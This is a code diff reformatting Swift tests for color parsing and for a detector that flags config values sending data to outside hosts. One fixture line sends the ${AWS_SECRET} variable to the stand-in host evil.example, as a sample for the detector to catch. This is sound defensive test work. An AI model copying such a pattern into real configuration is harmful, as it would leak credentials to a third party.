@@ -14,7 +14,8 @@ struct EnvironmentColorTests {
     }
 
     @Test(
-        "anything else is not a color", arguments: ["", "reddish", "#fff", "#gggggg", "ff8800", "#+f8800", "#-f8800"])
+        "anything else is not a color",
+        arguments: ["", "reddish", "#fff", "#gggggg", "ff8800", "#+f8800", "#-f8800"])
     func unknown(text: String) {
         #expect(EnvironmentColor(text) == nil)
     }
@@ -29,7 +30,8 @@ struct SendingTests {
 
     @Test("a variable that goes to a host of the file's own is reported, with the host")
     func told() throws {
-        let source = #"{kind: active-config, url: "https://evil.example:8443/{user}?x", token: "${AWS_SECRET}"}"#
+        let source =
+            #"{kind: active-config, url: "https://evil.example:8443/{user}?x", token: "${AWS_SECRET}"}"#
         let sending = try #require(try sending(source))
         #expect(sending.variables == ["AWS_SECRET"])
         #expect(sending.hosts == ["evil.example"])
